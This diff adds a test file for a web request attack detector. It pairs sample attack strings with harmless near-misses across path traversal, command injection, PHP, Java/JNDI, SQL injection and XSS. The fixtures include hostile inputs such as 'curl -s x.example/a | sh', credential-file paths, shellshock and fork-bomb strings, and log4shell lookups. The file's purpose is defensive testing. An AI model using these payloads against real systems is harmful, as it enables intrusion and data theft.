@@ -1,0 +1,156 @@
+import { describe, expect, it } from 'vitest'
+import { ATTACK_KINDS } from '../../../src/detector/index.js'
+import { RULES } from '../../../src/detector/rules/index.js'
+import { analyzeBody, analyzeHeader, analyzeParameter, kindsOf } from '../analyze.js'
+
+/** For each kind: parameters that show it, and parameters that merely resemble one. */
+const EXAMPLES: Readonly<Record<(typeof ATTACK_KINDS)[number], { attacks: readonly string[]; nearMisses: readonly string[] }>> = {
+  'path-traversal': {
+    attacks: ['../../etc/hosts', '..\\..\\boot.ini', '/proc/self/maps', '.ssh/id_rsa', 'C:/windows/win.ini', '%2e%2e%2fetc%2fpasswd'],
+    nearMisses: ['and so on ...', 'etc. and more', 'a..b', '1../2', 'process/self-service', '/docs/guide/']
+  },
+  'remote-file': {
+    attacks: ['http://192.0.2.1/a', 'gopher://host/x', 'php://input', 'https://host.example/a.txt?', 'http://a@b.example/'],
+    nearMisses: ['https://www.example.com/a/b', 'mailto:kim@example.com', 'see http and ftp', 'https://example.com/?a=b']
+  },
+  'command-injection': {
+    attacks: [
+      '; id',
+      '| cat /etc/hosts',
+      '$(whoami)',
+      '`uname -a`',
+      '&& wget x.example/a',
+      'for %i in (*) do x',
+      '() { :; }; a',
+      'f(){ f|f& };f'
+    ],
+    nearMisses: [
+      'this; that',
+      'time and tide',
+      'a | b',
+      'if you want to go',
+      'more; less',
+      'find a cat in the tree',
+      'price $5 (new)',
+      'R&D department'
+    ]
+  },
+  'php-injection': {
+    attacks: ['<?php echo 1', '<?= $a ?>', '$_GET[a]', 'phpinfo()', 'base64_decode(', '$a(1)', 'O:1:"A":0:{}', '("sys"."tem")("id");'],
+    nearMisses: ['I like PHP', 'php-fpm', 'system failure (again)', 'cheval(blanc)', '$5 (five)', 'o: 1', 'ratio a:2']
+  },
+  'code-injection': {
+    attacks: [
+      '__proto__.x',
+      '{{7*7}}',
+      'constructor.constructor',
+      'while(true)',
+      'http://[::1]/',
+      'http://0x7f.1/',
+      'http://169.254.169.254/'
+    ],
+    nearMisses: ['{{name}}', 'for a while', 'the process', 'constructor', 'example.com', 'localhost', 'http://example.com/']
+  },
+  xss: {
+    attacks: [
+      '<script>x</script>',
+      '<img src=x onerror=y>',
+      'javascript:x()',
+      '<svg/onload=x>',
+      '"><b onclick=x>',
+      'alert(1)',
+      '&lt;script&gt;'
+    ],
+    nearMisses: ['a < b > c', 'I love JavaScript: it is fun', 'on = off', 'description', 'the alert is on', '1<2', 'stay alert (please)']
+  },
+  'sql-injection': {
+    attacks: [
+      "' or 1=1--",
+      "1' and '1'='1",
+      'union select 1,2',
+      '; drop table x',
+      'sleep(5)',
+      "x'--",
+      'or 1=1',
+      "admin' #",
+      'select * from a'
+    ],
+    nearMisses: [
+      "O'Brien",
+      "rock 'n' roll",
+      'credit union',
+      'select a seat',
+      'this or that',
+      'drop me a line',
+      'sleep well',
+      'order by phone',
+      'A-1; B-2'
+    ]
+  },
+  'java-injection': {
+    attacks: [
+      `\${jndi:ldap://a/b}`,
+      `\${\${lower:j}ndi:dns://a}`,
+      'java.lang.Runtime',
+      'rO0ABXNy',
+      'aW52b2tlcnRyYW5zZm9ybWVy',
+      'class.module.classLoader.x'
+    ],
+    nearMisses: ['Java developer', 'runtime', '${name', 'com', 'the Java island', 'jndi', 'org chart']
+  }
+}
+
+describe.each(ATTACK_KINDS)('rules for %s', (kind) => {
+  it.each(EXAMPLES[kind].attacks)('find %s', (value) => {
+    expect(kindsOf(analyzeParameter(value))).toContain(kind)
+  })
+
+  it.each(EXAMPLES[kind].nearMisses)('let %s pass', (value) => {
+    expect(analyzeParameter(value).findings).toEqual([])
+  })
+})
+
+describe('the rule table', () => {
+  it('names each rule once', () => {
+    const ids = RULES.map((rule) => rule.id)
+    expect(new Set(ids).size).toBe(ids.length)
+  })
+
+  it('has rules for every kind', () => {
+    expect(new Set(RULES.map((rule) => rule.kind))).toEqual(new Set(ATTACK_KINDS))
+  })
+
+  it('writes literals in lower case, so that they can be found', () => {
+    for (const rule of RULES) for (const literal of rule.literals ?? []) expect(literal).toBe(literal.toLowerCase())
+  })
+
+  it('keeps no state in its patterns', () => {
+    for (const rule of RULES) if (rule.test instanceof RegExp) expect(rule.test.flags).not.toMatch(/[gy]/)
+  })
+})
+
+describe('context', () => {
+  const shell = 'curl -s x.example/a | sh; cat /etc/passwd'
+
+  it('tells a command in a parameter from one in a document', () => {
+    expect(analyzeParameter(shell).verdict).toBe('threat')
+    expect(analyzeBody('text/markdown', `# Install\n\nRun this:\n\n    ${shell}\n\nand wait.\n`).verdict).toBe('clean')
+    expect(analyzeBody('text/html', `<html><body><pre>${shell}</pre><script>alert(1)</script></body></html>`).verdict).toBe('clean')
+  })
+
+  it('finds what no document holds in any', () => {
+    expect(kindsOf(analyzeBody('text/markdown', `# Hi\n\n\${jndi:ldap://192.0.2.1/a}\n`))).toEqual(['java-injection'])
+  })
+
+  it('finds injections in strings of JSON, and lets its ordinary strings pass', () => {
+    expect(analyzeBody('application/json', '{"user":"admin\'--"}').verdict).toBe('threat')
+    expect(analyzeBody('application/json', '{"user":{"$ne":""}}').verdict).toBe('threat')
+    expect(analyzeBody('application/json', '{"scripts":{"a":"rm -rf dist && tsc -p . | tee x"},"name":"O\'Brien"}').verdict).toBe('clean')
+  })
+
+  it('looks into headers', () => {
+    expect(analyzeHeader('user-agent', '() { :; }; /bin/id').findings[0]?.where).toBe('header')
+    expect(analyzeHeader('accept', '*/*;q=0.8, text/html').verdict).toBe('clean')
+    expect(analyzeHeader('user-agent', 'curl/8.5.0').verdict).toBe('clean')
+  })
+})
